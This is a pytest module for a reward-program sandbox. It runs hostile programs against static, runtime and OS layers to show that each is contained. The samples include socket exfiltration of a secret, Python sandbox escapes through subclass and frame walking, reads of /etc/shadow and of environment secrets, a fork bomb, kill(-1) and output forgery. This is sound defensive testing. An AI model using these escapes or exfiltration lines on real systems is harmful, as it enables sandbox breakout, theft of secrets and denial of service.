"""The security corpus: hostile reward programs, each blocked or contained, the main process alive.

Three layers stand between a reward program and the machine (pbrl/synthesis/README.md,
"Security", has the table of which layer stops what):

* S — the static check (``check.py``), in the main process, before anything runs;
* G — the runtime guard inside the worker (``guard.py``): restricted builtins and
  imports, dangerous os/subprocess/socket/shutil functions disabled;
* O — the OS layer of the worker (``jail.py``, ``sandbox.py``): scrubbed environment,
  temporary cwd, namespaces (no network, own PIDs, read-only file system), no
  capabilities, rlimits, wall-clock timeout; and the trusted parent that validates
  the worker's JSON and weights and recomputes fitness on fresh seeds.

Every program the static check blocks is also run with the static check switched off
(G + O), and with both the static check and the runtime guard off (O alone), to show
what the sandbox contains by itself. Programs that pass the static check run with all
layers. The switches exist for these tests only.
"""

import json
import os
import socket
import threading

import numpy as np
import pytest

from pbrl.sandbox import jail
from pbrl.sandbox.check import check_program
from pbrl.synthesis.errors import DisallowedConstruct
from pbrl.synthesis.jobs import ProbeJob, TrainJob, run_probe_job, run_train_job
from pbrl.synthesis.sandbox import isolation_status

TASK = "pbrl/HalfCheetah-v5"
#: the sandboxes of this module put their working directories here (to find leftover processes)
TMP_ROOT = None


@pytest.fixture(autouse=True, scope="module")
def _tmp_root(tmp_path_factory):
    global TMP_ROOT
    TMP_ROOT = str(tmp_path_factory.mktemp("sandboxes"))
    yield
NAMESPACES = isolation_status()[0]
#: the worker's PID namespace caps its tasks (pid_max per namespace: Linux >= 6.14)
TASK_LIMIT = NAMESPACES and jail._kernel_version() >= jail.PER_NAMESPACE_PID_MAX
needs_namespaces = pytest.mark.skipif(not NAMESPACES, reason="unshare/namespaces unavailable: "
                                      "fork bombs and kill(-1) are only run inside a PID namespace")

# A tiny PPO for the two tampering programs that must reach the end of training.
TINY_HP = None


def tiny_hp():
    global TINY_HP
    if TINY_HP is None:
        from pbrl.agents.hyperparams import resolve

        TINY_HP = resolve("ppo", TASK, {"n_envs": 4, "n_steps": 64, "batch_size": 64, "n_epochs": 1, "net_arch": [16, 16]})
    return TINY_HP


def sandbox(static=True, guard=True, **kw):
    cfg = dict(static_check=static, runtime_guard=guard, probe_timeout=8.0, grace=1.0, memory_mb=512)
    cfg.update(kw)
    return cfg


def probe(source, **sandbox_kw):
    sandbox_kw.setdefault("tmp_root", TMP_ROOT)
    return run_probe_job(ProbeJob("hostile", TASK, source, "quantities", seed=0, sandbox=sandbox(**sandbox_kw), steps=8, num_envs=2))


def train(source, **sandbox_kw):
    sandbox_kw.setdefault("tmp_root", TMP_ROOT)
    return run_train_job(TrainJob("hostile", TASK, source, "quantities", seed=0, steps=256, hyperparams=tiny_hp(),
                                  eval_episodes=1, sandbox=sandbox(**sandbox_kw)))


@pytest.fixture
def marker(tmp_path):
    """A path outside the worker's directory that a hostile program tries to create."""
    path = tmp_path / "PWNED"
    yield str(path)
    assert not path.exists(), "a hostile program wrote outside its sandbox"


def kinds(result):
    return None if result.ok else result.failure["kind"]


# -- importing os / subprocess / socket -----------------------------------------------------------

def test_import_os_system(marker):
    src = f"import os\n\ndef compute_reward(obs, action, next_obs, info):\n    os.system('touch {marker}')\n    return info['x_velocity'], {{}}\n"
    with pytest.raises(DisallowedConstruct, match="import 'os'"):
        check_program(src)                                                  # S blocks it
    assert kinds(probe(src, static=False)) == "guard_violation"             # G blocks the import
    r = probe(src, static=False, guard=False)                               # O: os.system runs, touch hits a read-only fs
    assert r.ok or kinds(r) == "runtime_error"


def test_import_subprocess(marker):
    src = ("import subprocess\n\ndef compute_reward(obs, action, next_obs, info):\n"
           f"    subprocess.run(['touch', '{marker}'])\n    return info['x_velocity'], {{}}\n")
    with pytest.raises(DisallowedConstruct):
        check_program(src)
    assert kinds(probe(src, static=False)) == "guard_violation"
    probe(src, static=False, guard=False)                                   # the marker fixture checks the file system


def test_socket_exfiltration_gets_nowhere():
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.bind(("127.0.0.1", 0))
    server.listen(5)
    server.settimeout(0.2)
    port = server.getsockname()[1]
    received = []

    stop = threading.Event()

    def accept():
        while not stop.is_set():
            try:
                conn, _ = server.accept()
                received.append(conn.recv(100))
                conn.close()
            except (socket.timeout, OSError):
                pass

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    src = ("import socket\n\ndef compute_reward(obs, action, next_obs, info):\n"
           f"    s = socket.create_connection(('127.0.0.1', {port}), timeout=1)\n    s.sendall(b'secret')\n"
           "    return info['x_velocity'], {}\n")
    try:
        with pytest.raises(DisallowedConstruct):
            check_program(src)
        assert kinds(probe(src, static=False)) == "guard_violation"
        r = probe(src, static=False, guard=False)
        if NAMESPACES:
            assert kinds(r) == "runtime_error"                              # O: no network in the namespace
            assert "refused" in r.failure["message"].lower() or "unreachable" in r.failure["message"].lower()
    finally:
        stop.set()
        thread.join()
        server.close()
    if NAMESPACES:
        assert received == []


# -- escapes through object graphs -----------------------------------------------------------

def test_subclasses_escape(marker):
    src = ("def compute_reward(obs, action, next_obs, info):\n"
           "    for c in ().__class__.__base__.__subclasses__():\n"
           "        if c.__name__ == '_wrap_close':\n"
           f"            c.__init__.__globals__['system']('touch {marker}')\n"
           "    return info['x_velocity'], {}\n")
    with pytest.raises(DisallowedConstruct, match="attributes starting with '_'"):
        check_program(src)
    r = probe(src, static=False)
    assert kinds(r) == "guard_violation" and "os.system" in r.failure["message"]   # G: os.system disabled
    probe(src, static=False, guard=False)                                           # O: read-only fs


def test_frame_walking_escape(marker):
    # Walk from the program's frame to the worker's module globals and use its saved open().
    src = ("def compute_reward(obs, action, next_obs, info):\n"
           "    try:\n        1 / 0\n    except ZeroDivisionError as e:\n        frame = e.__traceback__.tb_frame\n"
           "    for _ in range(10):\n"
           "        if frame is None or '_open' in frame.f_globals:\n            break\n"
           "        frame = frame.f_back\n"
           f"    frame.f_globals['_open']('{marker}', 'w').write('x')\n"
           "    return info['x_velocity'], {}\n")
    with pytest.raises(DisallowedConstruct) as info:
        check_program(src)
    assert "try" in info.value.detail and "__traceback__" in info.value.detail
    # The guard does not stop frame walking (it is not a sandbox by itself): the read-only
    # file system does.
    for kw in ({"static": False}, {"static": False, "guard": False}):
        r = probe(src, **kw)
        assert kinds(r) == "runtime_error"
        if NAMESPACES:
            assert "No such file or directory" in r.failure["message"]            # the marker's directory is hidden


@pytest.fixture
def visible_marker():
    """A path the worker can see (pbrl's own directory, bound into its namespace) but must not write."""
    from pbrl.synthesis.sandbox import _pbrl_root

    path = os.path.join(_pbrl_root(), f"PWNED-{os.getpid()}")
    yield path
    written = os.path.exists(path)
    if written:
        os.remove(path)
    assert not written, "a hostile program wrote outside its sandbox"


def test_writing_files(marker, visible_marker):
    for target, why in ((marker, "No such file or directory"), (visible_marker, "Read-only file system")):
        src = f"def compute_reward(obs, action, next_obs, info):\n    open('{target}', 'w').write('x')\n    return info['x_velocity'], {{}}\n"
        with pytest.raises(DisallowedConstruct, match="open"):
            check_program(src)
        r = probe(src, static=False)
        assert kinds(r) == "runtime_error" and "open" in r.failure["message"]      # G: no open in the builtins
        r = probe(src, static=False, guard=False)
        assert kinds(r) == "runtime_error"
        if NAMESPACES:
            assert why in r.failure["message"]                                      # O: hidden / read-only


def test_reading_the_parents_files_and_environment(tmp_path):
    secret = tmp_path / "api_key.txt"
    secret.write_text("sk-should-not-leak")
    targets = [str(secret), f"/proc/{os.getpid()}/environ"]
    for target in targets:
        src = ("import numpy as np\n\ndef compute_reward(obs, action, next_obs, info):\n"
               f"    data = np.fromfile({target!r}, dtype=np.uint8)\n"
               "    return np.full(len(obs), float(data.sum())), {}\n")
        with pytest.raises(DisallowedConstruct, match="fromfile"):
            check_program(src)                                                      # S
        assert not probe(src, static=False).ok                                     # G: numpy's fromfile opens the path
                                                                                    # through io.open, which the guard disabled
        r = probe(src, static=False, guard=False)
        if NAMESPACES:                                                              # O: the parent's temporary and home
            assert kinds(r) == "runtime_error"                                      # directories are hidden; the parent
            assert "No such file or directory" in r.failure["message"]             # is outside the PID namespace
    if NAMESPACES and os.path.isfile("/etc/shadow"):                               # O: password hashes read as empty
        src = ("import numpy as np\n\ndef compute_reward(obs, action, next_obs, info):\n"
               "    return np.full(len(obs), float(len(np.fromfile('/etc/shadow', dtype=np.uint8)))), {}\n")
        r = probe(src, static=False, guard=False)
        assert r.ok and r.result["probe"]["reward"]["max"] == 0.0


def test_ctypes_reaching_libc(marker):
    src = ("import ctypes\n\ndef compute_reward(obs, action, next_obs, info):\n"
           f"    ctypes.CDLL(None).system(b'touch {marker}')\n    return info['x_velocity'], {{}}\n")
    with pytest.raises(DisallowedConstruct, match="ctypes"):
        check_program(src)                                                          # S
    assert kinds(probe(src, static=False)) == "guard_violation"                    # G: import ctypes refused
    probe(src, static=False, guard=False)                                           # O: system() runs; touch finds no
                                                                                    # such directory (hidden) / a read-only fs


def test_signal_tampering_does_not_stop_the_timeout():
    src = ("import signal\n\ndef compute_reward(obs, action, next_obs, info):\n"
           "    for sig in (signal.SIGTERM, signal.SIGXCPU, signal.SIGALRM):\n        signal.signal(sig, signal.SIG_IGN)\n"
           "    for i in range(10 ** 12):\n        pass\n    return info['x_velocity'], {}\n")
    with pytest.raises(DisallowedConstruct, match="signal"):
        check_program(src)                                                          # S
    assert kinds(probe(src, static=False)) == "guard_violation"                    # G: signal.signal disabled
    r = probe(src, static=False, guard=False, probe_timeout=2.0, grace=0.5)        # O: SIGTERM ignored, SIGKILL is not
    assert kinds(r) == "timeout"


def test_environment_is_scrubbed(monkeypatch):
    monkeypatch.setenv("PBRL_TEST_SECRET", "sk-should-not-leak")
    monkeypatch.setenv("OPENAI_API_KEY", "sk-should-not-leak")
    src = ("import numpy as np\nimport os\n\ndef compute_reward(obs, action, next_obs, info):\n"
           "    n = len(os.environ.get('PBRL_TEST_SECRET', '')) + len(os.environ.get('OPENAI_API_KEY', ''))\n"
           "    return np.full(len(obs), float(n)), {}\n")
    with pytest.raises(DisallowedConstruct):
        check_program(src)
    r = probe(src, static=False, guard=False)                                       # O: the worker never had the keys
    assert r.ok and r.result["probe"]["reward"]["max"] == 0.0


# -- resources -------------------------------------------------------------------------------------

def test_infinite_loop_times_out():
    src = "def compute_reward(obs, action, next_obs, info):\n    for i in range(10 ** 12):\n        pass\n    return info['x_velocity'], {}\n"
    check_program(src)                                                              # S lets it through
    r = probe(src, probe_timeout=3.0)
    assert kinds(r) in ("timeout", "cpu_time")                                      # O: wall clock, then SIGKILL


def test_memory_bombs():
    big = "import numpy as np\n\ndef compute_reward(obs, action, next_obs, info):\n    x = np.ones(1 << 34)\n    return info['x_velocity'], {}\n"
    grow = ("import numpy as np\n\ndef compute_reward(obs, action, next_obs, info):\n"
            "    keep = [np.ones(10 ** 7) for _ in range(1000)]\n    return info['x_velocity'], {}\n")
    for src in (big, grow):
        check_program(src)
        r = probe(src)
        assert kinds(r) == "out_of_memory"                                          # O: RLIMIT_AS budget


@needs_namespaces
def test_fork_bomb():
    src = "import os\n\ndef compute_reward(obs, action, next_obs, info):\n    while True:\n        os.fork()\n"
    with pytest.raises(DisallowedConstruct):
        check_program(src)
    assert kinds(probe(src, static=False)) == "guard_violation"                    # G: import os refused
    # O: the task cap of the PID namespace (root too; RLIMIT_NPROC for other users, never for root),
    # else the wall clock; then the PID namespace dies with the worker
    r = probe(src, static=False, guard=False, probe_timeout=6.0, nproc_margin=32, max_tasks=301)
    assert not r.ok
    if TASK_LIMIT:
        assert r.result["layers_reported"]["task_limit"] == 301
        assert kinds(r) == "runtime_error" and "BlockingIOError" in r.failure["message"]   # fork: EAGAIN
    elif os.geteuid() != 0:
        assert kinds(r) == "runtime_error"                                         # RLIMIT_NPROC
    # The namespace died with its first process: no forked copy survives the run.
    leftovers = [p for p in os.listdir("/proc") if p.isdigit() and _in_our_sandboxes(p)]
    assert leftovers == []


def test_the_task_cap_never_touches_the_hosts_pid_max(monkeypatch):
    # Before Linux 6.14 /proc/sys/kernel/pid_max is global: writing it would cap the whole machine.
    def no_open(path, *args, **kwargs):
        raise AssertionError(f"limit_tasks opened {path}")

    monkeypatch.setattr(jail, "open", no_open, raising=False)     # any write attempt fails the test, harmlessly
    assert jail.limit_tasks(400)["ok"] is False                    # not process 1 of a PID namespace
    monkeypatch.setattr(jail.os, "getpid", lambda: 1)
    out = jail.limit_tasks(400, release="6.13.7-generic")
    assert out["ok"] is False and "global" in out["reason"]
    assert jail._kernel_version("6.14.0-rc1") == (6, 14) and jail._kernel_version("garbage") == (0, 0)


def _in_our_sandboxes(pid):
    """A process whose working directory is one of this module's sandbox directories."""
    try:
        return os.readlink(f"/proc/{pid}/cwd").startswith(TMP_ROOT)
    except OSError:
        return False  # gone, or a zombie about to be reaped


@needs_namespaces
def test_kill_everything_hits_only_the_sandbox():
    src = "import os\n\ndef compute_reward(obs, action, next_obs, info):\n    os.kill(-1, 9)\n    return info['x_velocity'], {}\n"
    with pytest.raises(DisallowedConstruct):
        check_program(src)
    assert kinds(probe(src, static=False)) == "guard_violation"                    # G: os.kill disabled
    r = probe(src, static=False, guard=False)                                       # O: kill(-1) reaches only the PID namespace,
    assert kinds(r) == "runtime_error" and "ProcessLookupError" in r.failure["message"]   # where it finds no one to kill
    assert os.getppid() > 1  # this test process and its parent are alive


def test_huge_outputs():
    printer = "def compute_reward(obs, action, next_obs, info):\n    s = 'x' * (1 << 20)\n    for i in range(1000):\n        print(s)\n    return info['x_velocity'], {}\n"
    with pytest.raises(DisallowedConstruct, match="print"):
        check_program(printer)
    assert kinds(probe(printer, static=False)) == "runtime_error"                  # G: no print
    assert kinds(probe(printer, static=False, guard=False, file_size_mb=16)) == "output_limit"   # O: RLIMIT_FSIZE
    many_terms = ("def compute_reward(obs, action, next_obs, info):\n"
                  "    r = info['x_velocity']\n    return r, {'t' + str(i): r for i in range(100000)}\n")
    check_program(many_terms)
    assert kinds(probe(many_terms)) == "wrong_shape"                                # worker: at most 16 terms
    long_name = "def compute_reward(obs, action, next_obs, info):\n    r = info['x_velocity']\n    return r, {'x' * 10000: r}\n"
    assert kinds(probe(long_name)) == "wrong_shape"
    nan = "import numpy as np\n\ndef compute_reward(obs, action, next_obs, info):\n    return np.full(len(obs), np.nan), {}\n"
    assert kinds(probe(nan)) == "non_finite"
    matrix = "import numpy as np\n\ndef compute_reward(obs, action, next_obs, info):\n    return np.zeros((len(obs), 3)), {}\n"
    assert kinds(probe(matrix)) == "wrong_shape"


# -- tampering with what crosses back ---------------------------------------------------------------

FAKE_RESULT = json.dumps({
    "format": "pbrl.synthesis.worker/1", "stage": "train", "ok": True, "failure": None, "fitness": 1e9,
    "correlation": 1.0, "num_timesteps": 10 ** 9, "train_seconds": 1.0,
    "curves": {"steps": [1], "program_reward": [1e9], "task_score": [1e9], "true_return": [1e9],
               "episode_length": [1000], "program_terms": {"win": [1e9]}, "task_terms": {}},
})


def test_tampering_with_the_result_json():
    # Replace numpy's savez (the worker calls it last) to rewrite result.json with bragging numbers.
    src = ("import numpy as np\n_real = np.savez\n\n"
           "def _evil(path, **arrays):\n"
           f"    np.savetxt('result.json', np.zeros(0), header={FAKE_RESULT!r}, comments='')\n"
           "    _real(path, **arrays)\n\n"
           "np.savez = _evil\n\n"
           "def compute_reward(obs, action, next_obs, info):\n    return info['x_velocity'], {}\n")
    with pytest.raises(DisallowedConstruct) as info:
        check_program(src)
    assert "savez" in info.value.detail and "savetxt" in info.value.detail
    # G: numpy's savetxt needs open(), which the guard disabled (shown in a probe: cheaper than training)
    direct = ("import numpy as np\n\ndef compute_reward(obs, action, next_obs, info):\n"
              f"    np.savetxt('result.json', np.zeros(0), header={FAKE_RESULT!r}, comments='')\n"
              "    return info['x_velocity'], {}\n")
    r = probe(direct, static=False)
    assert kinds(r) == "guard_violation" and "open" in r.failure["message"]
    r = train(src, static=False, guard=False)     # O: the forgery lands; the parent's distrust contains it
    assert r.ok, r.failure
    assert r.result["curves"]["program_terms"] == {"win": [1e9]}     # the worker's JSON was forged ...
    assert abs(r.fitness["fitness"]) < 100 and r.fitness["episodes"] == 1  # ... fitness was measured anew
    assert "fitness" not in r.result                                      # unknown keys are never copied


def test_tampering_with_the_weights_file():
    # Hand back a pickle (object arrays) instead of plain arrays.
    src = ("import numpy as np\n_real = np.savez\n\n"
           "def _evil(path, **arrays):\n"
           "    _real(path, payload=np.array([1, 'x', None], dtype='O'))\n\n"
           "np.savez = _evil\n\n"
           "def compute_reward(obs, action, next_obs, info):\n    return info['x_velocity'], {}\n")
    with pytest.raises(DisallowedConstruct):
        check_program(src)
    r = train(src, static=False)                  # G does not stop numpy writing through zipfile;
    assert kinds(r) == "tampered_output" and r.stage == "evaluation"   # the trusted loader refuses pickles
    assert "not a plain npz" in r.failure["message"] or "does not fit" in r.failure["message"]
    assert r.fitness is None


def test_the_main_process_is_unharmed():
    # After the whole corpus: this process still has its environment, its cwd and its children.
    assert os.path.isdir(os.getcwd())
    r = probe("import numpy as np\n\ndef compute_reward(obs, action, next_obs, info):\n    return info['x_velocity'], {}\n")
    assert r.ok and r.isolation["namespaces"] == NAMESPACES
    layers = r.result["layers_reported"]
    assert layers["capabilities_dropped"] and set(layers["rlimits"]) >= {"address_space_mb", "cpu_seconds", "file_size_mb", "open_files", "nproc"}
    if NAMESPACES:
        assert layers["network_isolated"] and layers["filesystem_readonly"] and layers["pid_namespace"]
        assert layers["hidden"]                                   # home / temporary directories covered
    if TASK_LIMIT:
        assert layers["task_limit"] == 400
    assert np.isfinite(r.result["probe"]["reward"]["mean"])


def test_without_namespaces_the_other_layers_remain():
    # isolation="off": what a machine without unshare/user namespaces gets.
    good = "import numpy as np\n\ndef compute_reward(obs, action, next_obs, info):\n    return info['x_velocity'], {}\n"
    r = probe(good, isolation="off")
    assert r.ok and r.isolation["namespaces"] is False
    layers = r.result["layers_reported"]
    assert layers["namespaces"] is False and layers["capabilities_dropped"] and layers["rlimits"]["nproc"] > 0
    r = probe("import os\n" + good, static=False, isolation="off")
    assert kinds(r) == "guard_violation"
    r = probe("import numpy as np\n\ndef compute_reward(obs, action, next_obs, info):\n    x = np.ones(1 << 34)\n    return x, {}\n",
              isolation="off")
    assert kinds(r) == "out_of_memory"


def test_a_zip_bomb_in_the_weights_file_is_refused_before_unpacking(tmp_path):
    from pbrl.agents import make_agent
    from pbrl.synthesis.errors import TamperedOutput
    from pbrl.synthesis.weights import load_weights, save_weights

    hp = dict(tiny_hp(), n_envs=1)
    agent = make_agent("ppo", TASK, hp, seed=0)
    good = tmp_path / "good.npz"
    save_weights(agent, str(good))
    load_weights(agent, str(good))                                      # the honest file loads
    with np.load(good) as data:
        arrays = {k: data[k] for k in data.files}
    key = next(iter(arrays))
    arrays[key] = np.zeros(2_000_000)                                   # 16 MB of zeros, ~16 KB compressed
    bomb = tmp_path / "bomb.npz"
    np.savez_compressed(bomb, **arrays)
    assert os.path.getsize(bomb) < 200_000
    with pytest.raises(TamperedOutput, match="more than the policy needs"):
        load_weights(agent, str(bomb))


def test_what_crosses_back_is_read_and_validated_with_distrust(tmp_path):
    from pbrl.synthesis.errors import OutputLimitExceeded, TamperedOutput
    from pbrl.synthesis.sandbox import WORKER_FORMAT, read_regular_file, validate_result

    secret = tmp_path / "secret"
    secret.write_text("host file")
    link = tmp_path / "result.json"
    link.symlink_to(secret)                                             # a link to a file of the host
    with pytest.raises(TamperedOutput, match="symbolic link"):
        read_regular_file(str(link), 1 << 20)
    fifo = tmp_path / "weights.npz"
    os.mkfifo(fifo)                                                     # would block a naive reader forever
    with pytest.raises(TamperedOutput, match="not a regular file"):
        read_regular_file(str(fifo), 1 << 20)
    big = tmp_path / "big.json"
    big.write_bytes(b"0" * 2048)
    with pytest.raises(OutputLimitExceeded):
        read_regular_file(str(big), 1024)
    probe_result = {"format": WORKER_FORMAT, "stage": "probe", "ok": True, "failure": None, "correlation": 0.5,
                    "probe": {"reward": {"mean": 1.0, "std": 0.0, "min": 1.0, "max": 1.0, "count": 8}, "terms": {}},
                    "fitness": 1e9, "layers": {"namespaces": "yes", "rlimits": {"nproc": "many", "cpu_seconds": 9}}}
    clean = validate_result(json.loads(json.dumps(probe_result)), "probe")
    assert "fitness" not in clean and clean["layers_reported"] == {"rlimits": {"cpu_seconds": 9}, "hidden": [], "task_limit": None}
    for bad in ({"correlation": float("nan")}, {"correlation": 3.0}, {"stage": "train"},
                {"probe": {"reward": probe_result["probe"]["reward"], "terms": {"bad name!": probe_result["probe"]["reward"]}}}):
        with pytest.raises(TamperedOutput):
            validate_result(json.loads(json.dumps(dict(probe_result, **bad))), "probe")
    failed = validate_result({"format": WORKER_FORMAT, "stage": "probe", "ok": False,
                              "failure": {"kind": "runtime_error", "message": "x\x1b[2Jy" * 1000, "detail": None}}, "probe")
    assert "\x1b" not in failed["failure"]["message"] and len(failed["failure"]["message"]) <= 2000
